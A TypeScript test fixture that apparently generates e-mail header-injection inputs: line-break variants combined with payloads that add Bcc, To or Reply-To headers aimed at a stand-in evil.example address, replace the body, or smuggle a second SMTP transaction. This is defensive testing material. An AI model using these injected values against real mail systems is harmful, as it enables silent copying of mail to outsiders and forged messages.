/** What an attacker writes into a field of an e-mail to begin a header, a body or a mail of their own. */

export const victim = 'victim@evil.example'

/** All that has ever ended a line for somebody, as it is and in disguise. */
const breaks = [
  '\r\n',
  '\n',
  '\r',
  '\n\r',
  '\r\r\n',
  '\r\n ',
  '\r\n\t',
  '\u2028',
  '\u2029',
  '\u0085',
  '\v',
  '\f',
  '\u0000\r\n',
  '\u560d\u560a',
  '%0d%0a',
  '%0A',
  '\\r\\n',
  '&#13;&#10;',
  '=0D=0A',
  '?=\r\n',
]

const payloads = [
  `Bcc: ${victim}`,
  `Cc: ${victim}`,
  `To: ${victim}`,
  `From: ${victim}`,
  'Subject: injected',
  `Reply-To: ${victim}`,
  'X-Injected: yes',
  'Content-Type: text/html; charset=utf-7',
  'MIME-Version: 9.9',
  'Message-ID: <injected@evil.example>',
  'Date: Thu, 1 Jan 1970 00:00:00 +0000',
  `\r\n<p>injected body</p>`,
  `.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<${victim}>\r\nDATA\r\nSubject: injected\r\n\r\nx\r\n.`,
  `=?utf-8?Q?=0D=0ABcc:_${victim}?=`,
  `=?utf-8?B?${Buffer.from(`\r\nBcc: ${victim}`).toString('base64')}?=`,
]

/** 20 breaks × 15 payloads. The words before them make a plausible value of the field. */
export function hostileValues(begin: string): string[] {
  return breaks.flatMap((between) => payloads.map((payload) => `${begin}${between}${payload}`))
}
